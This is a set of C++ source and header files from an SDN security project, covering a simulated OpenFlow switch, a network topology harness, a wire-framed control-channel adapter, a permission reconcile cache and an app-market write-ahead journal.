  sw_->setPacketInSink([this, controller, dpid](const of::PacketIn& packetIn) {
    // Switch -> controller direction: OFPT_PACKET_IN over the wire.
    of::Bytes frame = wire::encodePacketIn(packetIn);
    bytesFromSwitch_.fetch_add(frame.size(), std::memory_order_relaxed);
    auto decoded = std::get<of::PacketIn>(wire::decode(frame));
    decoded.dpid = dpid;  // Connection identity, as in real OF.
    if (controller != nullptr) controller->onPacketIn(decoded);
  });
}

ctrl::ApiResult WireSwitchConn::applyFlowMod(const of::FlowMod& mod) {
  of::Bytes frame;
  try {
    frame = wire::encodeFlowMod(mod);
  } catch (const wire::EncodeError& error) {
    return ctrl::ApiResult::failure(ctrl::ApiErrc::kFramingError,
                                    error.what());
  }
  bytesToSwitch_.fetch_add(frame.size(), std::memory_order_relaxed);
  return sw_->applyFlowMod(std::get<of::FlowMod>(wire::decode(frame)));
}

ctrl::ApiResult WireSwitchConn::transmitPacket(const of::PacketOut& packetOut) {
  of::Bytes frame;
  try {
    frame = wire::encodePacketOut(packetOut);
  } catch (const wire::EncodeError& error) {
    return ctrl::ApiResult::failure(ctrl::ApiErrc::kFramingError,
                                    error.what());
  }
  bytesToSwitch_.fetch_add(frame.size(), std::memory_order_relaxed);
  return sw_->transmitPacket(std::get<of::PacketOut>(wire::decode(frame)));
}

ctrl::ApiResponse<std::vector<of::FlowEntry>> WireSwitchConn::dumpFlows()
    const {
  return sw_->dumpFlows();
}

ctrl::ApiResponse<of::StatsReply> WireSwitchConn::queryStats(
    const of::StatsRequest& request) const {
  of::Bytes requestFrame;
  try {
    requestFrame = wire::encodeStatsRequest(request);
  } catch (const wire::EncodeError& error) {
    return ctrl::ApiResponse<of::StatsReply>::failure(
        ctrl::ApiErrc::kFramingError, error.what());
  }
  bytesToSwitch_.fetch_add(requestFrame.size(), std::memory_order_relaxed);
  auto decodedRequest =
      std::get<of::StatsRequest>(wire::decode(requestFrame));
  decodedRequest.dpid = sw_->dpid();
  of::StatsReply reply = sw_->localStats(decodedRequest);
  of::Bytes replyFrame = wire::encodeStatsReply(reply);
  bytesFromSwitch_.fetch_add(replyFrame.size(), std::memory_order_relaxed);
  auto decodedReply = std::get<of::StatsReply>(wire::decode(replyFrame));
  // Datapath identity is connection state, not wire payload (real OF too).
  decodedReply.dpid = sw_->dpid();
  decodedReply.switchStats.dpid = sw_->dpid();
  return ctrl::ApiResponse<of::StatsReply>::success(std::move(decodedReply));
}

}  // namespace sdnshield::sim
