#include "switchsim/sim_switch.h"

#include <thread>

namespace sdnshield::sim {

void SimSwitch::setControlChannelDelay(std::chrono::microseconds delay) {
  shutdownControlChannel();
  controlDelay_ = delay;
  if (delay.count() > 0) {
    {
      std::lock_guard lock(channelMutex_);
      channelStop_ = false;
    }
    channelWorker_ = std::thread([this] { channelRun(); });
  }
}

void SimSwitch::shutdownControlChannel() {
  {
    std::lock_guard lock(channelMutex_);
    channelStop_ = true;
  }
  channelCv_.notify_all();
  if (channelWorker_.joinable()) channelWorker_.join();
  controlDelay_ = std::chrono::microseconds{0};
}

void SimSwitch::channelSend(std::function<void()> apply) {
  {
    std::lock_guard lock(channelMutex_);
    channelQueue_.push_back(ChannelMessage{
        std::chrono::steady_clock::now() + controlDelay_, std::move(apply)});
  }
  channelCv_.notify_one();
}

void SimSwitch::channelRun() {
  std::unique_lock lock(channelMutex_);
  while (true) {
    channelCv_.wait(lock, [this] { return channelStop_ || !channelQueue_.empty(); });
    if (channelStop_) return;
    ChannelMessage message = std::move(channelQueue_.front());
    channelQueue_.pop_front();
    // Pipelined propagation: wait until this message's own deadline.
    while (!channelStop_ &&
           std::chrono::steady_clock::now() < message.due) {
      channelCv_.wait_until(lock, message.due);
    }
    if (channelStop_) return;
    lock.unlock();
    message.apply();
    lock.lock();
  }
}

void SimSwitch::advanceTime(std::uint32_t seconds) {
  std::vector<of::FlowEntry> expired;
  {
    std::lock_guard lock(mutex_);
    expired = table_.tick(seconds);
  }
  if (controller_ == nullptr) return;
  for (const of::FlowEntry& entry : expired) {
    of::FlowRemoved removed;
    removed.dpid = dpid_;
    removed.match = entry.match;
    removed.priority = entry.priority;
    removed.cookie = entry.cookie;
    if (controlDelay_.count() > 0) {
      channelSend([this, removed] { controller_->onFlowRemoved(removed); });
    } else {
      controller_->onFlowRemoved(removed);
    }
  }
}

void SimSwitch::punt(const of::PacketIn& packetIn) {
  if (packetInSink_) {
    packetInSink_(packetIn);
  } else if (controller_ != nullptr) {
    controller_->onPacketIn(packetIn);
  }
}

void SimSwitch::expireFlows(const of::FlowMatch& match) {
  of::FlowMod expire;
  expire.command = of::FlowModCommand::kDelete;
  expire.match = match;
  std::lock_guard lock(mutex_);
  table_.apply(expire);
}

void SimSwitch::connectPort(of::PortNo port, PacketSink sink) {
  std::lock_guard lock(mutex_);
  ports_[port] = std::move(sink);
  portStats_.try_emplace(port, of::PortStats{port, 0, 0, 0, 0});
}

void SimSwitch::receivePacket(of::PortNo inPort, const of::Packet& packet) {
  of::ActionList actions;
  bool miss = false;
  std::size_t bytes = packet.serialize().size();
  {
    std::lock_guard lock(mutex_);
    auto& stats = portStats_[inPort];
    stats.port = inPort;
    ++stats.rxPackets;
    stats.rxBytes += bytes;
    const of::FlowEntry* entry = table_.lookup(packet.fields(inPort), bytes);
    if (entry != nullptr) {
      actions = entry->actions;
    } else {
      miss = true;
    }
  }
  if (miss) {
    of::PacketIn packetIn;
    packetIn.dpid = dpid_;
    packetIn.inPort = inPort;
    packetIn.reason = of::PacketInReason::kNoMatch;
    packetIn.packet = packet;
    {
      std::lock_guard lock(mutex_);
      ++packetIns_;
    }
    if (controlDelay_.count() > 0) {
      channelSend([this, packetIn] { punt(packetIn); });
    } else {
      punt(packetIn);
    }
    return;
  }
  executeActions(actions, inPort, packet);
}

ctrl::ApiResult SimSwitch::applyFlowMod(const of::FlowMod& mod) {
  if (controlDelay_.count() > 0) {
    // Asynchronous send, as over a real control channel: the caller does
    // not wait for the rule to be applied. Errors would come back as error
    // messages; the optimistic success mirrors that.
    channelSend([this, mod] {
      std::lock_guard lock(mutex_);
      ++flowMods_;
      table_.apply(mod);
    });
    return ctrl::ApiResult::success();
  }
  std::lock_guard lock(mutex_);
  ++flowMods_;
  if (!table_.apply(mod)) {
    return ctrl::ApiResult::failure(ctrl::ApiErrc::kTableFull,
                                    "flow table full");
  }
  return ctrl::ApiResult::success();
}

std::vector<ctrl::ApiResult> SimSwitch::applyFlowMods(
    const std::vector<of::FlowMod>& mods) {
  if (controlDelay_.count() > 0) {
    // As with applyFlowMod: async over the emulated channel, optimistic.
    channelSend([this, mods] {
      std::lock_guard lock(mutex_);
      flowMods_ += mods.size();
      table_.applyBatch(mods);
    });
    return std::vector<ctrl::ApiResult>(mods.size());
  }
  std::vector<bool> applied;
  {
    std::lock_guard lock(mutex_);
    flowMods_ += mods.size();
    applied = table_.applyBatch(mods);
  }
  std::vector<ctrl::ApiResult> out;
  out.reserve(applied.size());
  for (bool ok : applied) {
    out.push_back(ok ? ctrl::ApiResult::success()
                     : ctrl::ApiResult::failure(ctrl::ApiErrc::kTableFull,
                                                "flow table full"));
  }
  return out;
}

ctrl::ApiResult SimSwitch::transmitPacket(const of::PacketOut& packetOut) {
  if (controlDelay_.count() > 0) {
    channelSend([this, packetOut] {
      executeActions(packetOut.actions, packetOut.inPort, packetOut.packet);
    });
    return ctrl::ApiResult::success();
  }
  executeActions(packetOut.actions, packetOut.inPort, packetOut.packet);
  return ctrl::ApiResult::success();
}

ctrl::ApiResponse<std::vector<of::FlowEntry>> SimSwitch::dumpFlows() const {
  std::lock_guard lock(mutex_);
  return ctrl::ApiResponse<std::vector<of::FlowEntry>>::success(
      table_.entries());
}

of::StatsReply SimSwitch::localStats(const of::StatsRequest& request) const {
  of::StatsReply reply;
  reply.level = request.level;
  reply.dpid = dpid_;
  std::lock_guard lock(mutex_);
  switch (request.level) {
    case of::StatsLevel::kFlow:
      for (const of::FlowEntry& entry : table_.select(request.match)) {
        reply.flows.push_back(of::FlowStatsEntry{entry.match, entry.priority,
                                                 entry.packetCount,
                                                 entry.byteCount, entry.cookie});
      }
      break;
    case of::StatsLevel::kPort:
      for (const auto& [_, stats] : portStats_) reply.ports.push_back(stats);
      break;
    case of::StatsLevel::kSwitch: {
      of::TableStats table = table_.stats();
      reply.switchStats = of::SwitchStats{dpid_, table.activeEntries,
                                          table.lookupCount,
                                          table.matchedCount};
      break;
    }
  }
  return reply;
}

ctrl::ApiResponse<of::StatsReply> SimSwitch::queryStats(
    const of::StatsRequest& request) const {
  return ctrl::ApiResponse<of::StatsReply>::success(localStats(request));
}

std::size_t SimSwitch::flowCount() const {
  std::lock_guard lock(mutex_);
  return table_.size();
}

void SimSwitch::executeActions(const of::ActionList& actions,
                               of::PortNo inPort, of::Packet packet) {
  for (const of::Action& action : actions) {
    if (const auto* set = std::get_if<of::SetFieldAction>(&action)) {
      switch (set->field) {
        case of::MatchField::kEthSrc:
          packet.eth.src = set->macValue;
          break;
        case of::MatchField::kEthDst:
          packet.eth.dst = set->macValue;
          break;
        case of::MatchField::kIpSrc:
          if (packet.ipv4) packet.ipv4->src = set->ipValue;
          break;
        case of::MatchField::kIpDst:
          if (packet.ipv4) packet.ipv4->dst = set->ipValue;
          break;
        case of::MatchField::kTpSrc:
          if (packet.tcp) {
            packet.tcp->srcPort = static_cast<std::uint16_t>(set->intValue);
          } else if (packet.udp) {
            packet.udp->srcPort = static_cast<std::uint16_t>(set->intValue);
          }
          break;
        case of::MatchField::kTpDst:
          if (packet.tcp) {
            packet.tcp->dstPort = static_cast<std::uint16_t>(set->intValue);
          } else if (packet.udp) {
            packet.udp->dstPort = static_cast<std::uint16_t>(set->intValue);
          }
          break;
        default:
          break;  // Other rewrites not modelled.
      }
    } else if (const auto* output = std::get_if<of::OutputAction>(&action)) {
      if (output->port == of::ports::kController) {
        of::PacketIn packetIn;
        packetIn.dpid = dpid_;
        packetIn.inPort = inPort;
        packetIn.reason = of::PacketInReason::kAction;
        packetIn.packet = packet;
        punt(packetIn);
      } else if (output->port == of::ports::kFlood) {
        std::vector<of::PortNo> floodPorts;
        {
          std::lock_guard lock(mutex_);
          for (const auto& [port, _] : ports_) {
            if (port != inPort) floodPorts.push_back(port);
          }
        }
        for (of::PortNo port : floodPorts) deliver(port, inPort, packet);
      } else {
        deliver(output->port, inPort, packet);
      }
    }
    // DropAction: nothing to do.
  }
}

void SimSwitch::deliver(of::PortNo outPort, of::PortNo /*inPort*/,
                        const of::Packet& packet) {
  PacketSink sink;
  {
    std::lock_guard lock(mutex_);
    auto it = ports_.find(outPort);
    if (it == ports_.end()) return;
    sink = it->second;
    auto& stats = portStats_[outPort];
    stats.port = outPort;
    ++stats.txPackets;
    stats.txBytes += packet.serialize().size();
  }
  if (sink) sink(packet);
}

}  // namespace sdnshield::sim
