#include "switchsim/sim_network.h"

#include <stdexcept>

namespace sdnshield::sim {

void SimHost::send(const of::Packet& packet) {
  edge_->receivePacket(descriptor_.port, packet);
}

void SimHost::onDelivered(const of::Packet& packet) {
  {
    std::lock_guard lock(mutex_);
    received_.push_back(packet);
  }
  delivered_.notify_all();
}

std::vector<of::Packet> SimHost::received() const {
  std::lock_guard lock(mutex_);
  return received_;
}

std::size_t SimHost::receivedCount() const {
  std::lock_guard lock(mutex_);
  return received_.size();
}

bool SimHost::waitForPackets(std::size_t n,
                             std::chrono::milliseconds timeout) const {
  std::unique_lock lock(mutex_);
  return delivered_.wait_for(lock, timeout,
                             [&] { return received_.size() >= n; });
}

void SimHost::clearReceived() {
  std::lock_guard lock(mutex_);
  received_.clear();
}

std::shared_ptr<SimSwitch> SimNetwork::createSwitch(of::DatapathId dpid) {
  auto sw = std::make_shared<SimSwitch>(dpid);
  sw->setController(&controller_);
  switches_[dpid] = sw;
  return sw;
}

std::shared_ptr<SimSwitch> SimNetwork::addSwitch(of::DatapathId dpid) {
  auto sw = createSwitch(dpid);
  controller_.attachSwitch(
      sw, ctrl::ConnectionInfo{dpid, "sim", "in-process", 0});
  return sw;
}

void SimNetwork::link(of::DatapathId a, of::PortNo aPort, of::DatapathId b,
                      of::PortNo bPort) {
  auto swA = switchAt(a);
  auto swB = switchAt(b);
  if (!swA || !swB) throw std::invalid_argument("link: unknown switch");
  swA->connectPort(aPort, [swB, bPort](const of::Packet& packet) {
    swB->receivePacket(bPort, packet);
  });
  swB->connectPort(bPort, [swA, aPort](const of::Packet& packet) {
    swA->receivePacket(aPort, packet);
  });
  controller_.addLink(a, aPort, b, bPort);
}

std::shared_ptr<SimHost> SimNetwork::addHost(of::DatapathId dpid,
                                             of::PortNo port,
                                             of::MacAddress mac,
                                             of::Ipv4Address ip) {
  auto edge = switchAt(dpid);
  if (!edge) throw std::invalid_argument("addHost: unknown switch");
  net::Host descriptor{mac, ip, dpid, port};
  auto host = std::make_shared<SimHost>(descriptor, edge);
  edge->connectPort(port, [host](const of::Packet& packet) {
    host->onDelivered(packet);
  });
  hosts_.push_back(host);
  controller_.learnHost(descriptor);
  return host;
}

std::shared_ptr<SimSwitch> SimNetwork::switchAt(of::DatapathId dpid) const {
  auto it = switches_.find(dpid);
  return it == switches_.end() ? nullptr : it->second;
}

std::shared_ptr<SimHost> SimNetwork::hostByIp(of::Ipv4Address ip) const {
  for (const auto& host : hosts_) {
    if (host->ip() == ip) return host;
  }
  return nullptr;
}

std::vector<std::shared_ptr<SimSwitch>> SimNetwork::switches() const {
  std::vector<std::shared_ptr<SimSwitch>> out;
  out.reserve(switches_.size());
  for (const auto& [_, sw] : switches_) out.push_back(sw);
  return out;
}

void SimNetwork::buildLinear(std::size_t switchCount) {
  for (std::size_t i = 1; i <= switchCount; ++i) addSwitch(i);
  for (std::size_t i = 1; i < switchCount; ++i) {
    // Port 2 faces the next switch; port 3 faces the previous one.
    link(i, 2, i + 1, 3);
  }
  for (std::size_t i = 1; i <= switchCount; ++i) {
    addHost(i, 1, of::MacAddress::fromUint64(0x0200000000ULL + i),
            of::Ipv4Address(10, 0, 0, static_cast<std::uint8_t>(i)));
  }
}

void SimNetwork::buildTree(std::size_t depth, std::size_t fanout) {
  // Breadth-first numbering from dpid 1; parent port p+10 connects child's
  // port 3; hosts on port 1 of every leaf.
  of::DatapathId next = 1;
  std::vector<of::DatapathId> frontier{next};
  addSwitch(next++);
  for (std::size_t level = 1; level < depth; ++level) {
    std::vector<of::DatapathId> children;
    for (of::DatapathId parent : frontier) {
      for (std::size_t k = 0; k < fanout; ++k) {
        of::DatapathId child = next++;
        addSwitch(child);
        link(parent, static_cast<of::PortNo>(10 + k), child, 3);
        children.push_back(child);
      }
    }
    frontier = std::move(children);
  }
  std::uint8_t hostIndex = 1;
  for (of::DatapathId leaf : frontier) {
    addHost(leaf, 1, of::MacAddress::fromUint64(0x0300000000ULL + hostIndex),
            of::Ipv4Address(10, 0, 1, hostIndex));
    ++hostIndex;
  }
}

}  // namespace sdnshield::sim
