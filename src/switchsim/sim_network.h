// Network harness: builds simulated topologies (switches, links, hosts),
// wires them to a controller, and provides observable host endpoints — the
// testbed for the effectiveness and end-to-end experiments.
#pragma once

#include <condition_variable>
#include <chrono>
#include <map>
#include <memory>
#include <mutex>
#include <vector>

#include "controller/controller.h"
#include "switchsim/sim_switch.h"

namespace sdnshield::sim {

/// A host endpoint: records everything delivered to it (so tests can check
/// e.g. "did the RST reach the victim?") and injects packets into its
/// switch port.
class SimHost {
 public:
  SimHost(net::Host descriptor, std::shared_ptr<SimSwitch> edge)
      : descriptor_(descriptor), edge_(std::move(edge)) {}

  const net::Host& descriptor() const { return descriptor_; }
  of::MacAddress mac() const { return descriptor_.mac; }
  of::Ipv4Address ip() const { return descriptor_.ip; }

  /// Injects a packet at the host's switch port.
  void send(const of::Packet& packet);

  /// Called by the switch port wiring when a packet is delivered here.
  void onDelivered(const of::Packet& packet);

  std::vector<of::Packet> received() const;
  std::size_t receivedCount() const;

  /// Blocks until at least @p n packets have been delivered (or timeout).
  bool waitForPackets(std::size_t n, std::chrono::milliseconds timeout) const;

  void clearReceived();

 private:
  net::Host descriptor_;
  std::shared_ptr<SimSwitch> edge_;
  mutable std::mutex mutex_;
  mutable std::condition_variable delivered_;
  std::vector<of::Packet> received_;
};

class SimNetwork {
 public:
  explicit SimNetwork(ctrl::Controller& controller)
      : controller_(controller) {}

  /// Stops any control-channel workers before the controller (declared
  /// before the network in the usual stack order) is torn down.
  ~SimNetwork() {
    for (auto& [_, sw] : switches_) sw->shutdownControlChannel();
  }

  /// Adds a switch and registers it with the controller through the
  /// canonical Controller::attachSwitch(conn, ConnectionInfo) entry point
  /// (transport "sim"). Direct wiring — handing the controller a connection
  /// without a ConnectionInfo — is deprecated; every transport registers
  /// through that one seam.
  std::shared_ptr<SimSwitch> addSwitch(of::DatapathId dpid);

  /// Builds and data-plane-wires a switch WITHOUT attaching it: the caller
  /// owns registration via Controller::attachSwitch — used by adapters that
  /// interpose their own SwitchConn (WireSwitchConn, tests).
  std::shared_ptr<SimSwitch> createSwitch(of::DatapathId dpid);

  /// Wires a bidirectional link and registers it in the controller topology.
  void link(of::DatapathId a, of::PortNo aPort, of::DatapathId b,
            of::PortNo bPort);

  /// Attaches a host at (dpid, port); the controller learns its location.
  std::shared_ptr<SimHost> addHost(of::DatapathId dpid, of::PortNo port,
                                   of::MacAddress mac, of::Ipv4Address ip);

  std::shared_ptr<SimSwitch> switchAt(of::DatapathId dpid) const;
  std::shared_ptr<SimHost> hostByIp(of::Ipv4Address ip) const;
  const std::vector<std::shared_ptr<SimHost>>& hosts() const { return hosts_; }
  std::vector<std::shared_ptr<SimSwitch>> switches() const;

  // --- canned topologies ------------------------------------------------------
  /// Chain s1-s2-...-sN with one host per switch (10.0.0.k at switch k,
  /// host port 1; inter-switch ports 2 and 3).
  void buildLinear(std::size_t switchCount);

  /// Complete binary-ish tree of the given fanout and depth; hosts at
  /// leaves.
  void buildTree(std::size_t depth, std::size_t fanout);

 private:
  ctrl::Controller& controller_;
  std::map<of::DatapathId, std::shared_ptr<SimSwitch>> switches_;
  std::vector<std::shared_ptr<SimHost>> hosts_;
};

}  // namespace sdnshield::sim
