// Wire-framed southbound adapter: interposes the OpenFlow 1.0 binary codec
// on every message between the controller and a simulated switch, proving
// the codec carries the full southbound vocabulary. Flow-mods, packet-outs,
// stats requests/replies and packet-ins each take a serialize->bytes->parse
// round trip, exactly as they would over a real control channel.
#pragma once

#include <atomic>
#include <memory>

#include "of/wire.h"
#include "switchsim/sim_switch.h"

namespace sdnshield::sim {

class WireSwitchConn final : public ctrl::SwitchConn {
 public:
  /// Wraps @p sw. Punted packet-ins are encoded, decoded and forwarded to
  /// @p controller (the switch's own controller pointer is bypassed).
  WireSwitchConn(std::shared_ptr<SimSwitch> sw, ctrl::Controller* controller);

  of::DatapathId dpid() const { return sw_->dpid(); }
  /// Codec rejections (e.g. a non-prefix IPv4 mask, unencodable in OF 1.0)
  /// surface as typed kFramingError failures, never as exceptions — the
  /// same contract the TCP transport honours.
  ctrl::ApiResult applyFlowMod(const of::FlowMod& mod) override;
  ctrl::ApiResult transmitPacket(const of::PacketOut& packetOut) override;
  /// Flow dumps pass through directly: OF 1.0 carries them as flow-stats
  /// with action lists, which this codec's reply does not model.
  ctrl::ApiResponse<std::vector<of::FlowEntry>> dumpFlows() const override;
  ctrl::ApiResponse<of::StatsReply> queryStats(
      const of::StatsRequest& request) const override;

  std::uint64_t bytesToSwitch() const { return bytesToSwitch_.load(); }
  std::uint64_t bytesFromSwitch() const { return bytesFromSwitch_.load(); }

 private:
  std::shared_ptr<SimSwitch> sw_;
  // mutable: stats queries are const but still meter the channel.
  mutable std::atomic<std::uint64_t> bytesToSwitch_{0};
  mutable std::atomic<std::uint64_t> bytesFromSwitch_{0};
};

}  // namespace sdnshield::sim
