// A simulated OpenFlow 1.0-style switch: flow table, packet pipeline, port
// counters, packet-in punting — the southbound substrate for the end-to-end
// experiments (the paper used hardware switches emulated by CBench).
#pragma once

#include <chrono>
#include <condition_variable>
#include <cstdint>
#include <deque>
#include <functional>
#include <map>
#include <mutex>
#include <thread>
#include <vector>

#include "controller/controller.h"
#include "of/flow_table.h"
#include "of/messages.h"
#include "of/packet.h"

namespace sdnshield::sim {

class SimSwitch final : public ctrl::SwitchConn {
 public:
  SimSwitch(of::DatapathId dpid, std::size_t tableCapacity = 65536)
      : dpid_(dpid), table_(tableCapacity) {}
  ~SimSwitch() override { shutdownControlChannel(); }

  SimSwitch(const SimSwitch&) = delete;
  SimSwitch& operator=(const SimSwitch&) = delete;

  // --- wiring ---------------------------------------------------------------
  void setController(ctrl::Controller* controller) { controller_ = controller; }

  /// Overrides where punted packet-ins go (instead of the controller) —
  /// used by adapters that frame the control channel (e.g. WireSwitchConn).
  using PacketInSink = std::function<void(const of::PacketIn&)>;
  void setPacketInSink(PacketInSink sink) { packetInSink_ = std::move(sink); }

  /// Emulates the switch<->controller control-channel latency of a real
  /// testbed (the paper measures over a physical network where this is the
  /// dominant term). Modelled as pipelined propagation delay: control
  /// messages (punts, flow-mods, packet-outs) take effect @p delay after
  /// being sent, without blocking the sender. Zero (default) = no channel.
  void setControlChannelDelay(std::chrono::microseconds delay);

  /// Stops the control-channel worker (must be called before the controller
  /// is destroyed when a delay was configured; SimNetwork does this).
  void shutdownControlChannel();

  /// Switch-local rule expiry (e.g. idle timeout): applies directly to the
  /// table, bypassing the control channel.
  void expireFlows(const of::FlowMatch& match);

  /// Advances the switch's virtual clock: entries whose idle/hard timeout
  /// elapses are removed and announced to the controller as FlowRemoved.
  void advanceTime(std::uint32_t seconds);

  /// Connects a port to a peer (the far end of a link, or a host NIC).
  using PacketSink = std::function<void(const of::Packet&)>;
  void connectPort(of::PortNo port, PacketSink sink);

  // --- data plane -------------------------------------------------------------
  /// A packet arrives on a port: table lookup, action execution; a miss is
  /// punted to the controller as a packet-in.
  void receivePacket(of::PortNo inPort, const of::Packet& packet);

  // --- ctrl::SwitchConn ---------------------------------------------------------
  // (dpid() is SimSwitch state, not interface: datapath identity reaches
  // the controller through the ConnectionInfo passed to attachSwitch.)
  of::DatapathId dpid() const { return dpid_; }
  ctrl::ApiResult applyFlowMod(const of::FlowMod& mod) override;
  /// Batched flow-mods: one table-lock acquisition, sorted-merge insertion
  /// (FlowTable::applyBatch) instead of per-mod lock+scan+insert.
  std::vector<ctrl::ApiResult> applyFlowMods(
      const std::vector<of::FlowMod>& mods) override;
  ctrl::ApiResult transmitPacket(const of::PacketOut& packetOut) override;
  ctrl::ApiResponse<std::vector<of::FlowEntry>> dumpFlows() const override;
  ctrl::ApiResponse<of::StatsReply> queryStats(
      const of::StatsRequest& request) const override;

  /// queryStats without the ApiResponse wrapper (an in-process switch
  /// cannot fail a local table read) — convenience for tests and tools.
  of::StatsReply localStats(const of::StatsRequest& request) const;

  std::size_t flowCount() const;
  std::uint64_t packetInCount() const { return packetIns_; }
  std::uint64_t flowModCount() const { return flowMods_; }

 private:
  void executeActions(const of::ActionList& actions, of::PortNo inPort,
                      of::Packet packet);
  void deliver(of::PortNo outPort, of::PortNo inPort, const of::Packet& packet);

  void punt(const of::PacketIn& packetIn);

  of::DatapathId dpid_;
  ctrl::Controller* controller_ = nullptr;
  PacketInSink packetInSink_;
  mutable std::mutex mutex_;  // Guards table and counters, never delivery.
  of::FlowTable table_;
  std::map<of::PortNo, PacketSink> ports_;
  std::map<of::PortNo, of::PortStats> portStats_;
  std::uint64_t packetIns_ = 0;
  std::uint64_t flowMods_ = 0;

  // Control-channel emulation: a FIFO of (due time, action) applied by a
  // worker thread at each message's own deadline (propagation, not service,
  // delay — messages pipeline).
  struct ChannelMessage {
    std::chrono::steady_clock::time_point due;
    std::function<void()> apply;
  };
  void channelSend(std::function<void()> apply);
  void channelRun();

  std::chrono::microseconds controlDelay_{0};
  std::mutex channelMutex_;
  std::condition_variable channelCv_;
  std::deque<ChannelMessage> channelQueue_;
  std::thread channelWorker_;
  bool channelStop_ = false;
};

}  // namespace sdnshield::sim
