#include "market/reconcile_cache.h"

#include <algorithm>
#include <set>

namespace sdnshield::market {

std::uint64_t fnv1aHash(std::string_view text) {
  std::uint64_t hash = 1469598103934665603ULL;
  for (char c : text) {
    hash ^= static_cast<unsigned char>(c);
    hash *= 1099511628211ULL;
  }
  return hash;
}

std::uint64_t hashMix(std::uint64_t seed, std::uint64_t next) {
  // splitmix-style finalizer keeps the mix order-sensitive and avalanching.
  std::uint64_t mixed = seed ^ (next + 0x9e3779b97f4a7c15ULL + (seed << 6) +
                                (seed >> 2));
  mixed ^= mixed >> 30;
  mixed *= 0xbf58476d1ce4e5b9ULL;
  mixed ^= mixed >> 27;
  return mixed;
}

namespace {

void collectFromSetExpr(const lang::PermSetExprPtr& expr,
                        std::set<std::string>& out) {
  if (!expr) return;
  if (expr->kind == lang::PermSetExpr::Kind::kApp) out.insert(expr->name);
  collectFromSetExpr(expr->lhs, out);
  collectFromSetExpr(expr->rhs, out);
}

void collectFromBoolExpr(const lang::BoolExprPtr& expr,
                         std::set<std::string>& out) {
  if (!expr) return;
  collectFromSetExpr(expr->lhs, out);
  collectFromSetExpr(expr->rhs, out);
  collectFromBoolExpr(expr->a, out);
  collectFromBoolExpr(expr->b, out);
}

}  // namespace

std::vector<std::string> collectAppRefs(const lang::PolicyProgram& policy) {
  // LET bindings are walked too: a constraint can reach `APP x` through a
  // named set, and the binding map is small — over-approximating (a binding
  // no constraint uses) only widens the key, never unsounds it.
  std::set<std::string> names;
  for (const auto& [name, expr] : policy.setBindings) {
    collectFromSetExpr(expr, names);
  }
  for (const lang::Constraint& constraint : policy.constraints) {
    collectFromSetExpr(constraint.exclusiveA, names);
    collectFromSetExpr(constraint.exclusiveB, names);
    collectFromBoolExpr(constraint.assertion, names);
  }
  return {names.begin(), names.end()};
}

std::optional<perm::PermissionSet> ReconcileCache::lookup(
    const ReconcileKey& key) {
  if (!enabled_) {
    ++misses_;
    return std::nullopt;
  }
  auto it = entries_.find(key);
  if (it == entries_.end()) {
    ++misses_;
    return std::nullopt;
  }
  ++hits_;
  return it->second;
}

void ReconcileCache::insert(const ReconcileKey& key,
                            perm::PermissionSet granted) {
  if (!enabled_) return;
  if (entries_.size() >= kMaxEntries) entries_.clear();
  entries_.insert_or_assign(key, std::move(granted));
}

void ReconcileCache::setEnabled(bool enabled) {
  enabled_ = enabled;
  if (!enabled) entries_.clear();
}

}  // namespace sdnshield::market
