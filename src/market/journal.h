// Write-ahead journal for app-market lifecycle operations (the durability
// half of the market subsystem). Every lifecycle op is recorded as
// intent -> commit (or intent -> abort); a restarted controller replays the
// committed records to reach the exact pre-crash app/permission state
// (market::AppMarket::recover).
//
// Records encode to single lines (tab-separated, with \t/\n/\\ escaped) so a
// FileJournal is a plain append-only text file that survives crashes at any
// point: a torn trailing line fails to decode and is ignored on load, which
// is exactly the abort semantics of an unfinished append.
#pragma once

#include <cstdint>
#include <fstream>
#include <mutex>
#include <optional>
#include <string>
#include <vector>

#include "of/messages.h"

namespace sdnshield::market {

/// What a journal record describes. Mutating ops come in intent/commit
/// pairs; kAbort closes an intent whose operation rolled back.
enum class JournalOp {
  kInstallIntent,
  kInstallCommit,
  kUpgradeIntent,
  kUpgradeCommit,
  kRevokeIntent,
  kRevokeCommit,
  kUninstallIntent,
  kUninstallCommit,
  kPolicyIntent,  ///< Carries the new policy text.
  kPolicyGrant,   ///< One app's reconciled grant under the new policy.
  kPolicyCommit,  ///< The epoch swap was published.
  kAbort,         ///< The in-flight operation rolled back.
};

const char* toString(JournalOp op);
std::optional<JournalOp> parseJournalOp(const std::string& name);

struct JournalRecord {
  std::uint64_t seq = 0;  ///< Assigned by the journal on append.
  JournalOp op = JournalOp::kAbort;
  of::AppId app = 0;          ///< 0 for market-wide records (policy ops).
  std::uint32_t version = 0;  ///< App release version (install/upgrade).
  std::string name;           ///< App name.
  std::string manifestText;   ///< Requested manifest (install/upgrade) or
                              ///< policy text (kPolicyIntent).
  std::string grantedText;    ///< Granted permission set, permission-language.
  std::string detail;         ///< Reason / diagnostic text.

  /// Single-line wire form (newline-free).
  std::string encode() const;
  /// Throws std::invalid_argument on a malformed line.
  static JournalRecord decode(const std::string& line);
};

/// Append-only record log. append() fires the market.journal fault site
/// *before* mutating anything, so an injected journal fault aborts the
/// enclosing lifecycle operation without leaving a record behind.
class MarketJournal {
 public:
  virtual ~MarketJournal() = default;

  /// Assigns the next sequence number, persists and retains the record.
  /// Returns the assigned sequence. Throws iso::FaultInjected when the
  /// market.journal site is armed (nothing is recorded then).
  std::uint64_t append(JournalRecord record);

  std::vector<JournalRecord> records() const;
  std::size_t size() const;

 protected:
  MarketJournal() = default;
  /// Seeds the log with already-persisted records (recovery / file load).
  explicit MarketJournal(std::vector<JournalRecord> existing);

  /// Durability hook; called under the journal lock with the seq assigned.
  virtual void persist(const JournalRecord& record) = 0;

 private:
  mutable std::mutex mutex_;
  std::uint64_t nextSeq_ = 1;
  std::vector<JournalRecord> records_;
};

/// In-memory journal (tests, and the default when no path is configured).
class MemoryJournal final : public MarketJournal {
 public:
  MemoryJournal() = default;
  /// Recovery constructor: starts from a replayed record log.
  explicit MemoryJournal(std::vector<JournalRecord> existing)
      : MarketJournal(std::move(existing)) {}

 protected:
  void persist(const JournalRecord&) override {}
};

/// File-backed journal: one encoded record per line, appended and flushed
/// per record. Loads any existing records on open (a torn trailing line is
/// skipped). Throws std::runtime_error when the file cannot be opened.
class FileJournal final : public MarketJournal {
 public:
  explicit FileJournal(const std::string& path);

  /// Decodes the records currently stored at @p path (shared with the
  /// constructor; exposed for recovery tooling).
  static std::vector<JournalRecord> load(const std::string& path);

 protected:
  void persist(const JournalRecord& record) override;

 private:
  std::ofstream out_;
};

}  // namespace sdnshield::market
