#include "market/journal.h"

